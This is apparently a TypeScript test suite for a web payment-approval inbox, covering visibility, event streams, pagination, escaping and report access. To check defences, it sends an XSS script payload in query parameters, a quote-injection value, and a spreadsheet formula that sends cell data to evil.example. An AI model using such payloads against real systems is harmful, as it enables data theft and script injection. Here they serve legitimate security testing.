import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { gateOf, type DecisionOptions } from '../approvals/support.ts';
import { openInbox, type InboxHouse } from './inbox-house.ts';

let inbox: InboxHouse;
before(async () => {
  inbox = await openInbox();
});
after(() => inbox.stop());

const pay = (amount: string, payee: string): DecisionOptions => ({
  args: { amount, currency: 'EUR', payee, reference: `invoice of ${payee}` },
});

async function asked(options?: DecisionOptions): Promise<string> {
  const { house } = inbox;
  const decision = await house.decision(options);
  await house.approvals.register(decision.run, gateOf([decision]));
  return decision.id;
}

test('an approver reads who wants what, why, what will happen and who votes; nobody else reads anything', async () => {
  const id = await asked(pay('120.00', 'Baker & <Sons>'));
  const { status, text } = await inbox.get('/approvals', 'approver-a');
  assert.equal(status, 200);
  assert.match(text, /Robin Requester asks to pay 120\.00 EUR to Baker &amp; &lt;Sons&gt;/);
  assert.match(text, /Payments need an approval\./);
  assert.match(text, /(9|10) min left/);
  assert.match(text, /May decide: Alex Approver, Blake Approver/);
  assert.doesNotMatch(text, /name="verdict"/);
  for (const query of [
    '',
    '?show=all',
    '?view=mine',
    '?view=decided&show=all',
    '?what=ledger.transfer&group=none',
    '?what=class:payment&show=all',
    '?from=requester&show=all',
    '?why=payment_needs_approval&show=all&group=reason',
    `?show=all&group=none&after=0.${id}`,
    '?show=all&find=baker',
    '?show=all&from=requester&from=approver-a',
    `?view=decided&show=all&after=99999999999999999.${id}`,
  ]) {
    const other = await inbox.get(`/approvals${query}`, 'stranger');
    assert.equal(other.status, 200, query);
    assert.doesNotMatch(other.text, /Baker|Robin|Alex|Payments need|120\.00/, query);
    assert.match(other.text, /id="inbox-needed">0</);
  }
  assert.equal((await inbox.get(`/approvals/${id}`, 'stranger')).status, 404);
});

test('the stream of somebody outside stays silent while others ask', async () => {
  const abort = new AbortController();
  const first = await inbox.get('/approvals', 'stranger');
  const events = /data-events="([^"]+)"/.exec(first.text)?.[1]?.replaceAll('&amp;', '&') ?? '';
  assert.match(events, /^\/approvals\/events\?seen=[\w-]+$/);
  const answer = await fetch(`${inbox.base}${events}`, {
    headers: { cookie: inbox.signIn('stranger') },
    signal: abort.signal,
  });
  assert.match(answer.headers.get('content-type') ?? '', /^text\/event-stream/);
  let heard = '';
  const reading = (async () => {
    for await (const chunk of answer.body ?? []) heard += Buffer.from(chunk as Uint8Array).toString();
  })().catch(() => undefined);
  await asked(pay('77.00', 'Silent'));
  await new Promise((resolve) => setTimeout(resolve, 2500));
  abort.abort();
  await reading;
  // It looked again, and there was nothing to tell.
  assert.match(heard, /still here[\s\S]*still here/);
  assert.doesNotMatch(heard, /event: update|Silent/);
});

test('the stream ends with its session, and asks for one', async () => {
  assert.equal((await fetch(`${inbox.base}/approvals/events`)).status, 401);
});

test('an address keeps its filters over pages, and never carries markup', async () => {
  for (let count = 0; count < 21; count += 1) await asked(pay('1.00', `Payee ${count}`));
  const { text } = await inbox.get('/approvals?what=class:payment&from=requester&group=none', 'approver-a');
  const next = /href="([^"]+)" rel="next"/.exec(text)?.[1]?.replaceAll('&amp;', '&') ?? '';
  assert.match(next, /^\/approvals\?what=class%3Apayment&from=requester&group=none&after=/);
  assert.match((await inbox.get(next, 'approver-a')).text, /Payee 20/);
  const mark = encodeURIComponent('"><script>alert(1)</script>');
  for (const name of ['view', 'show', 'what', 'from', 'why', 'find', 'group', 'after', 'seen']) {
    const page = await inbox.get(`/approvals?${name}=${mark}`, 'approver-a');
    assert.equal(page.status, 200);
    assert.doesNotMatch(page.text, /<script>alert/);
  }
});

test('a search stays in the address, on the next page and in the stream', async () => {
  const { text } = await inbox.get('/approvals?find=payee&group=none', 'approver-a');
  assert.match(text, /<input type="search" id="find" name="find" value="payee"/);
  assert.match(text, /Filter and group: “payee”/);
  assert.match(text, /data-events="\/approvals\/events\?find=payee&amp;group=none&amp;seen=/);
  const next = /href="([^"]+)" rel="next"/.exec(text)?.[1]?.replaceAll('&amp;', '&') ?? '';
  assert.match(next, /^\/approvals\?find=payee&group=none&after=/);
  const last = await inbox.get(next, 'approver-a');
  assert.match(last.text, /Payee 20/);
  assert.doesNotMatch(last.text, /Baker/);
  const none = await inbox.get('/approvals?find=nothing+like+it', 'approver-a');
  assert.match(none.text, /Nothing here matches\..*<a href="\/approvals">Show all of it<\/a>/);
});

test('a folded line shows what it holds and offers no decision', async () => {
  const { text } = await inbox.get('/approvals', 'approver-a');
  assert.match(text, /<strong>2\d requests<\/strong>/);
  assert.match(text, /1\.00 EUR/);
  assert.doesNotMatch(text, /name="verdict"|<button class="primary"/);
});

test('the report is for those who see every receipt', async () => {
  const refused = await inbox.get('/approvals/report', 'requester');
  assert.equal(refused.status, 403);
  assert.match(refused.text, /GH-WEB-015/);
  assert.doesNotMatch(refused.text, /Who decides/);
  const id = await asked(pay('5.00', 'Reported'));
  const { house } = inbox;
  await house.approvals.vote({ approvalId: id, principal: 'approver-a', verdict: 'approve', channel: 'web' });
  for (const days of ['', '?days=7', '?days=90', '?days=-1', "?days=1'"]) {
    const { status, text } = await inbox.get(`/approvals/report${days}`, 'approver-a');
    assert.equal(status, 200);
    assert.match(text, /Alex Approver<\/th><td class="number">1<\/td><td class="number">100 %/);
  }
  await house.approvals.vote({
    approvalId: await asked(pay('6.00', 'Refused')),
    principal: 'approver-a',
    verdict: 'reject',
    comment: '=HYPERLINK("https://evil.example/?x="&A1,"open")',
    channel: 'web',
  });
  const table = await inbox.get('/approvals/report.csv?days=7', 'approver-a');
  assert.equal(table.status, 200);
  const rows = table.text.split('\r\n');
  assert.match(
    rows[0] ?? '',
    /^request,asked at,title,tool,asked by,rules,outcome,decided at,seconds,votes,comments$/,
  );
  const row = rows.find((one) => one.startsWith(id)) ?? '';
  assert.match(
    row,
    /,ledger\.transfer,Robin Requester,payment_needs_approval,approved,.*,Alex Approver: approve \(web\),$/,
  );
  assert.ok(!table.text.includes('Reported'), 'no argument leaves with the table');
  // What a spreadsheet would run begins with an apostrophe.
  assert.match(table.text, /,"'=HYPERLINK\(""https:/);
  assert.equal((await inbox.get('/approvals/report.csv', 'requester')).status, 403);
  assert.match((await inbox.get('/approvals', 'approver-a')).text, /href="\/approvals\/report"/);
  assert.doesNotMatch((await inbox.get('/approvals', 'requester')).text, /approvals\/report/);
});
